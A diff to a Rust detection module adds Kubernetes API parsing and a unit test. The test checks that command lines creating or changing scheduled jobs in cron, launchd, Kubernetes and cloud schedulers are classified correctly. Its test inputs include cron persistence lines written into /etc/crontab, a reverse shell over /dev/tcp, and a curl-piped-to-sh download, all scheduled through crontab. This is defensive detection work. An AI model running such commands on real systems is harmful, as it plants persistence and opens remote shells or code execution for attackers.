@@ -73,6 +73,7 @@ pub(crate) fn read_all(
                 );
             }
             _ if attack::read(commands, command, jobs) => {}
+            _ if kubernetes::read_api(commands, command, jobs) => {}
             _ => write::read(commands, command, jobs, &mut own),
         }
         if jobs.len() > told {
@@ -203,6 +204,146 @@ pub(crate) mod tests {
             text.push(format!("[{}]", names.join(",")));
         }
         text.join("\n")
+    }
+
+    /// What sensors and people write in other ways than the plainest.
+    #[test]
+    fn other_front_ends_tell_the_same_job() {
+        const TABLE: &str = "Scheduler=cron|Interface=crontab";
+        const FILE: &str = "Activity=update|Scheduler=cron|Interface=shell";
+        const CLUSTER: &str = "Scheduler=kubernetes|Interface=kubectl";
+        let minute = "Trigger=minute|Command=/tmp/x|Arguments=";
+        let input =
+            format!("Activity=update|{TABLE}|Trait=table_from_input|{minute}");
+        let file = format!(
+            "Activity=update|{TABLE}|Trait=table_from_input|File=/tmp/t|\
+            {minute}"
+        );
+        for (line, expected) in [
+            // Lines that went through a filter, or through a file.
+            (
+                "sh -c (echo '* * * * * /tmp/x') | sort | uniq | crontab -",
+                input.clone(),
+            ),
+            ("sh -c crontab <(echo '* * * * * /tmp/x')", input.clone()),
+            (
+                "sh -c echo '* * * * * /tmp/x' > /tmp/t; crontab /tmp/t",
+                file.clone(),
+            ),
+            (
+                "sh -c crontab -l > /tmp/t && echo '* * * * * /tmp/x' >> /tmp/t && crontab /tmp/t",
+                format!("Activity=query|{TABLE}\n{file}"),
+            ),
+            (
+                "sh -c echo '* * * * * /tmp/x' > /tmp/u; crontab /tmp/t",
+                format!("Activity=update|{TABLE}|File=/tmp/t"),
+            ),
+            (
+                "sh -c sed -i '1i * * * * * root /tmp/x' /etc/crontab",
+                format!(
+                    "{FILE}|Name=crontab|File=/etc/crontab|\
+                    Trigger=minute|User=root|Command=/tmp/x|Arguments="
+                ),
+            ),
+            (
+                "sed -i s/a/b/ /etc/crontab",
+                format!("{FILE}|Name=crontab|File=/etc/crontab"),
+            ),
+            (
+                "sh -c echo /etc/crontab | xargs -I{} sh -c 'echo \"* * * * * root /tmp/x\" >> {}'",
+                format!(
+                    "{FILE}|Name=crontab|File=/etc/crontab|\
+                    Trigger=minute|User=root|Command=/tmp/x|Arguments="
+                ),
+            ),
+            (
+                "docker -H tcp://h run -v /etc:/x alpine sh -c 'echo > /x/cron.d/y'",
+                format!("{FILE}|Name=y|File=/etc/cron.d/y\n[expansion]"),
+            ),
+            (
+                "docker run -v /srv:/x alpine sh -c 'echo > /x/cron.d/y'",
+                String::new(),
+            ),
+            // What a line does besides starting programs.
+            (
+                "sh -c echo '* * * * * cd /a && b > /dev/null 2>&1 &' | crontab -",
+                format!(
+                    "Activity=update|{TABLE}|Trait=table_from_input|\
+                    Trigger=minute|Command=b|Arguments="
+                ),
+            ),
+            (
+                "sh -c echo '* * * * * sh -i >& /dev/tcp/h/1' | crontab -",
+                format!(
+                    "Activity=update|{TABLE}|Trait=table_from_input|\
+                    Trigger=minute|Trait=command_network|Command=sh|\
+                    Arguments=-i"
+                ),
+            ),
+            (
+                "sh -c echo '* * * * * curl h | sh' | crontab -",
+                format!(
+                    "Activity=update|{TABLE}|Trait=table_from_input|\
+                    Trigger=minute|Command=curl|Arguments=h|\
+                    Trait=command_reads_pipe|Command=sh|Arguments="
+                ),
+            ),
+            // Arguments that a sensor joined.
+            (
+                "osascript -e do shell script \"echo '* * * * * /tmp/x' | crontab -\"",
+                input,
+            ),
+            (
+                "launchctl load -S Aqua /Library/LaunchAgents/x.plist",
+                "Activity=enable|Scheduler=launchd|Interface=launchctl|\
+                File=/Library/LaunchAgents/x.plist"
+                    .to_owned(),
+            ),
+            // Clusters and clouds.
+            (
+                "k3s kubectl delete cronjob x",
+                format!("Activity=delete|{CLUSTER}|Name=x"),
+            ),
+            ("k3s server", String::new()),
+            (
+                "sh -c kubectl apply -f - <<E\nkind: CronJob\nmetadata: {name: x, namespace: y}\nspec:\n  schedule: '*/5 * * * *'\nE",
+                format!("Activity=update|{CLUSTER}|Name=y/x|Trigger=minute"),
+            ),
+            (
+                "sh -c kubectl apply -f - <<E\nkind: Pod\nmetadata: {name: x}\nE",
+                String::new(),
+            ),
+            (
+                "curl -X DELETE https://h/apis/batch/v1/namespaces/y/cronjobs/x?a=b",
+                "Activity=delete|Scheduler=kubernetes|Interface=api|Name=y/x"
+                    .to_owned(),
+            ),
+            (
+                "curl --data @c https://h/apis/batch/v1/namespaces/y/jobs",
+                "Activity=create|Scheduler=kubernetes|Interface=api"
+                    .to_owned(),
+            ),
+            ("curl https://h/apis/apps/v1/deployments", String::new()),
+            (
+                "/bin/bash /usr/bin/az automation runbook create --name x",
+                "Activity=create|Scheduler=azure_automation|Interface=api|\
+                Name=x"
+                    .to_owned(),
+            ),
+            (
+                "python3 -m azure.cli automation runbook list",
+                "Activity=query|Scheduler=azure_automation|Interface=api"
+                    .to_owned(),
+            ),
+            (
+                "python3 -S /x/gcloud.py scheduler jobs delete y",
+                "Activity=delete|Scheduler=gcp_scheduler|Interface=api|Name=y"
+                    .to_owned(),
+            ),
+            ("python3 /srv/az_copy.py automation", String::new()),
+        ] {
+            assert_eq!(told(line, System::Unix), expected, "{line}");
+        }
     }
 
     #[test]
